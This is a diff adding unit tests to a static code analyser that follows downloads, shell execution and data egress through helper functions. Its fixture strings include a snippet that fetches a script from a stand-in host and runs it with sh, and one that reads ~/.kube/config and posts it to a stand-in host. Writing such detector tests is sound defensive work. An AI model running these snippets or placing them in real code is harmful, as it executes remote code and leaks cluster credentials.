@@ -83,3 +83,39 @@ def test_input_handed_to_a_script_the_interpreter_runs_is_data_not_code(tmp_path
     )
     found = analyse_file(tmp_path, "scripts/report.py", source, Language.PYTHON)
     assert Kind.EXEC_FETCHED not in {c.kind for c in found}
+
+
+def test_a_url_handed_to_a_helper_that_downloads_and_code_handed_to_one_that_runs(tmp_path: Path) -> None:
+    source = (
+        "import subprocess, urllib.request\n"
+        "def get(url):\n"
+        "    return urllib.request.urlopen(url).read()\n"
+        "def run(code):\n"
+        "    subprocess.run(['sh', '-c', code])\n"
+        "run(get('https://p.example.invalid/a.sh'))\n"
+    )
+    found = analyse_file(tmp_path, "scripts/setup.py", source, Language.PYTHON)
+    assert chain(found, Kind.EXEC_FETCHED) == [
+        (3, "downloads https://p.example.invalid/a.sh"),
+        (5, "runs it (subprocess.run)"),
+    ]
+
+
+def test_a_dict_a_helper_fills_from_secret_files_is_filled_for_the_caller(tmp_path: Path) -> None:
+    source = (
+        "import json, os, urllib.request\n"
+        "def collect(path, into):\n"
+        "    into[path] = open(os.path.expanduser(path)).read()\n"
+        "found = {}\n"
+        "collect('~/.kube/config', found)\n"
+        "urllib.request.urlopen('https://c.example.invalid/u', data=json.dumps(found).encode())\n"
+    )
+    found = analyse_file(tmp_path, "scripts/report.py", source, Language.PYTHON)
+    egress = [c for c in found if c.kind is Kind.EGRESS and c.detail == "c.example.invalid"]
+    assert [[link.line for link in c.chain] for c in egress] == [[3, 6]]
+
+
+def test_a_helper_called_with_nothing_known_is_not_followed_again(tmp_path: Path) -> None:
+    source = "import sys, subprocess\ndef run(code):\n    subprocess.run(code, shell=True)\nrun(sys.argv[1])\n"
+    found = analyse_file(tmp_path, "scripts/run.py", source, Language.PYTHON)
+    assert Kind.EXEC_FETCHED not in {c.kind for c in found}
